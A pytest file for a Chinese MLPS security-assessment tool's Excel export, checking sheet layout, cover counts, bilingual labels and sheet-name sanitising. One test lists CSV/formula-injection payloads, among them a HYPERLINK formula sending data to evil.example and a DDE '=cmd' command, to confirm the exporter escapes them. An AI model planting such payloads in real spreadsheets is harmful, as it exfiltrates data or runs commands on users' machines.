"""Exporting an assessment to .xlsx: the agencies' layout, a sheet per assessed object, a cover sheet, Chinese or
English, and no cell a spreadsheet could ever run."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import pytest

from mlps.adapters.exchange import ExportMeta, export_xlsx, plan_import, sheet_name
from mlps.rules.catalogue import load_catalogue
from mlps.rules.domain import AssessmentKind, ItemResult, Result, Risk

CATALOGUE = load_catalogue()
L3 = CATALOGUE.select(3)
META = ExportMeta(
    organisation="某县第一中学",
    system="学生信息管理系统",
    level=3,
    kind=AssessmentKind.AGENCY,
    assessment_date=date(2026, 3, 1),
    catalogue_version=CATALOGUE.version,
    assessor="张老师",
)


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_one_sheet_for_the_whole_system_lists_every_item_of_every_category_in_catalogue_order():
    results = [ItemResult("L3-PES1-01", Result.CONFORM, record="机房在二层。", risk=None, methods=("examine",))]
    wb = load(export_xlsx(L3, results, META, CATALOGUE.taxonomy))
    assert wb.sheetnames == ["测评信息", "测评结果"]
    ws = wb["测评结果"]
    header = [c.value for c in ws[1]]
    assert header[:9] == [
        "安全类",
        "扩展要求",
        "控制点",
        "编号",
        "测评项",
        "符合情况",
        "结果记录",
        "风险等级",
        "测评方法",
    ]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 211  # GB/T 22239-2019 level 3 general items
    assert [r[3] for r in rows] == [i.id for i in L3]
    first = rows[0]
    assert first[:4] == ("安全物理环境", "安全通用要求", "物理位置选择", "L3-PES1-01")
    assert first[4].startswith("a) ")
    assert first[5:9] == ("符合", "机房在二层。", None, "核查")
    assert rows[1][5] == "未测评" and rows[1][6] is None
    assert {r[0] for r in rows} == {c["zh"] for c in CATALOGUE.taxonomy.categories.values()}


def test_several_assessed_objects_get_one_sheet_each_with_all_items():
    results = [
        ItemResult("L3-PES1-01", Result.CONFORM, assessed_object="机房"),
        ItemResult("L3-CES1-01", Result.NONCONFORM, assessed_object="Web服务器", risk=Risk.HIGH),
        ItemResult("L3-CES1-01", Result.PARTIAL, assessed_object="数据库服务器", risk=Risk.MEDIUM),
    ]
    wb = load(export_xlsx(L3, results, META, CATALOGUE.taxonomy))
    assert wb.sheetnames == ["测评信息", "机房", "Web服务器", "数据库服务器"]
    for title in wb.sheetnames[1:]:
        assert wb[title].max_row == 212
    web = {r[3]: r for r in wb["Web服务器"].iter_rows(min_row=2, values_only=True)}
    assert web["L3-CES1-01"][5:8] == ("不符合", None, "高")
    assert web["L3-PES1-01"][5] == "未测评"  # the machine-room result stays on the machine-room sheet


def test_the_cover_sheet_names_the_assessment_and_counts_each_sheet():
    results = [
        ItemResult("L3-PES1-01", Result.CONFORM, assessed_object="机房"),
        ItemResult("L3-PES1-02", Result.NA, assessed_object="机房"),
        ItemResult("L3-CES1-01", Result.NONCONFORM, assessed_object="Web服务器"),
    ]
    ws = load(export_xlsx(L3, results, META, CATALOGUE.taxonomy))["测评信息"]
    cells = {row[0]: row[1:] for row in ws.iter_rows(values_only=True) if row[0]}
    assert cells["单位名称"][0] == "某县第一中学"
    assert cells["系统名称"][0] == "学生信息管理系统"
    assert cells["保护等级"][0] == "第三级"
    assert cells["扩展要求"][0] == "无"
    assert cells["测评类型"][0] == "等级测评"
    assert cells["测评日期"][0].date() == date(2026, 3, 1)
    assert cells["工作表"][:7] == ("测评对象", "项数", "符合", "部分符合", "不符合", "不适用", "未测评")
    assert cells["机房"][:7] == ("机房", 211, 1, 0, 0, 1, 209)
    assert cells["Web服务器"][:7] == ("Web服务器", 211, 0, 0, 1, 0, 210)


def test_english_headers_names_and_result_words_on_request():
    results = [ItemResult("L3-PES1-01", Result.PARTIAL, risk=Risk.LOW, methods=("interview", "test"))]
    wb = load(export_xlsx(L3, results, META, CATALOGUE.taxonomy, lang="en"))
    assert wb.sheetnames == ["Assessment info", "Results"]
    ws = wb["Results"]
    assert [c.value for c in ws[1]][:6] == [
        "Category",
        "Extension",
        "Control point",
        "Item id",
        "Requirement",
        "Result",
    ]
    row = next(ws.iter_rows(min_row=2, max_row=2, values_only=True))
    assert row[:4] == ("Physical environment", "General requirements", "Site selection", "L3-PES1-01")
    assert row[5] == "Partly conforms" and row[7] == "Low" and row[8] == "Interview, Test"


def test_extension_items_follow_the_general_ones_and_name_their_extension():
    items = CATALOGUE.select(3, ["cloud"])
    ws = load(export_xlsx(items, [], META, CATALOGUE.taxonomy))["测评结果"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 211 + 46
    assert rows[211][1] == "云计算安全扩展要求" and rows[211][3] == "L3-PES2-01"


def test_result_and_risk_cells_offer_the_allowed_words():
    ws = load(export_xlsx(L3, [], META, CATALOGUE.taxonomy))["测评结果"]
    lists = sorted(dv.formula1 for dv in ws.data_validations.dataValidation)
    assert lists == ['"符合,部分符合,不符合,不适用,未测评"', '"高,中,低"']


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd",
    "\r=cmd",
    "=cmd|' /C calc'!A0",
]


def test_no_exported_cell_is_a_formula_and_formula_like_text_comes_back_unchanged():
    results = [
        ItemResult(item.id, Result.NONCONFORM, record=text, risk_reason=text)
        for item, text in zip(L3, FORMULA_TEXTS, strict=False)
    ]
    meta = ExportMeta(organisation="=1+1", system="@system", level=3, assessor="-x")
    data = export_xlsx(L3, results, meta, CATALOGUE.taxonomy)
    wb = load(data)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    escaped = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r\n"]
    assert len(escaped) >= 2 * len(FORMULA_TEXTS) + 3
    assert all(c.quotePrefix for c in escaped)  # Excel keeps them text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    records = {r[3]: r[6] for r in wb["测评结果"].iter_rows(min_row=2, values_only=True)}
    # a CR alone is a line break to an XML reader (openpyxl keeps it with lxml, turns it into LF without); every
    # other text is kept exactly
    shown = [records[i.id].replace("\r", "\n") for i in L3[: len(FORMULA_TEXTS)]]
    assert shown == [t.replace("\r", "\n") for t in FORMULA_TEXTS]
    plan = plan_import(data, L3, CATALOGUE.taxonomy)
    assert plan.ok, plan.errors
    assert [r.record for r in plan.results] == [t.replace("\r", "\n") for t in FORMULA_TEXTS]


def test_sheet_names_are_made_valid_and_unique():
    used: set[str] = set()
    assert sheet_name("服务器[1]/主:备*?\\", used, "R") == "服务器_1__主_备___"
    assert sheet_name("'引号'", used, "R") == "引号"
    long = "核心交换机" * 10
    first = sheet_name(long, used, "R")
    second = sheet_name(long, used, "R")
    assert len(first) == 31 and first == long[:31]
    assert len(second) == 31 and second.endswith(" (2)") and second != first
    assert sheet_name("history", used, "R") == "history_"  # reserved by Excel
    assert sheet_name("WEB", {"web"}, "R") == "WEB (2)"  # Excel compares sheet names ignoring case
    assert sheet_name("   ", used, "结果") == "结果"


def test_object_names_that_excel_cannot_use_still_export_and_import_to_the_same_object():
    name = "服务器[主]/备用：" + "x" * 40
    results = [ItemResult("L3-CES1-01", Result.CONFORM, assessed_object=name, record="ok")]
    data = export_xlsx(L3, results, META, CATALOGUE.taxonomy)
    assert load(data).sheetnames[1] == "服务器_主__备用：" + "x" * 21
    plan = plan_import(data, L3, CATALOGUE.taxonomy)
    assert [(r.assessed_object, r.item_id) for r in plan.results] == [(name, "L3-CES1-01")]
    # two objects whose names differ only in case get two sheets (Excel ignores case) and come back apart
    both = [ItemResult("L3-CES1-01", Result.CONFORM, "WEB"), ItemResult("L3-CES1-01", Result.NA, "web")]
    data = export_xlsx(L3, both, META, CATALOGUE.taxonomy)
    assert load(data).sheetnames[1:] == ["WEB", "web (2)"]
    plan = plan_import(data, L3, CATALOGUE.taxonomy)
    assert {(r.assessed_object, r.result) for r in plan.results} == {("WEB", Result.CONFORM), ("web", Result.NA)}


def test_a_result_for_an_item_outside_the_selection_or_twice_for_one_object_is_refused():
    with pytest.raises(ValueError, match="L3-PES2-01"):
        export_xlsx(L3, [ItemResult("L3-PES2-01", Result.CONFORM)], META, CATALOGUE.taxonomy)
    twice = [ItemResult("L3-PES1-01", Result.CONFORM, "机房"), ItemResult("L3-PES1-01", Result.NA, "机房")]
    with pytest.raises(ValueError, match="two results for item L3-PES1-01"):
        export_xlsx(L3, twice, META, CATALOGUE.taxonomy)
